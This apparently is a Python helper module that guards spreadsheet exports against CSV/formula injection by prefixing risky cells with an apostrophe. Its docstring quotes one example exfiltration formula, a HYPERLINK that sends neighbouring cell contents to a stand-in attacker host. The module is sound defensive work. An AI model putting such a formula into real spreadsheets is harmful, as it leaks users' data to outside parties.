"""Spreadsheet cells that Excel, WPS or LibreOffice can never run: one rule for every .xlsx and .csv Banli writes.

A text taken from a proposal, a unit name or a comment may start with = + - @ (or a tab or carriage return, which
some spreadsheet programs skip before reading a formula). Opened in a spreadsheet such a cell becomes a live formula
(`=HYPERLINK("http://evil.example/?"&A1,"点击查看")` sends the neighbouring cells away). Such texts are written with a
leading apostrophe, the mark spreadsheets themselves use for "text, not a formula" (OWASP's CSV-injection advice);
numbers, dates and plain signed numbers in text ("-2.5", "+3") are left as they are.
"""
from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[-+]?\d+(?:\.\d+)?%?")


def safe_cell(value):
    """`value` as it may be written into a spreadsheet cell."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(row) -> list:
    """Every cell of `row` through safe_cell (styled openpyxl cells keep their style, their value is checked)."""
    out = []
    for value in row:
        if hasattr(value, "value") and hasattr(value, "number_format"):  # an openpyxl (WriteOnly)Cell
            value.value = safe_cell(value.value)
            out.append(value)
        else:
            out.append(safe_cell(value))
    return out
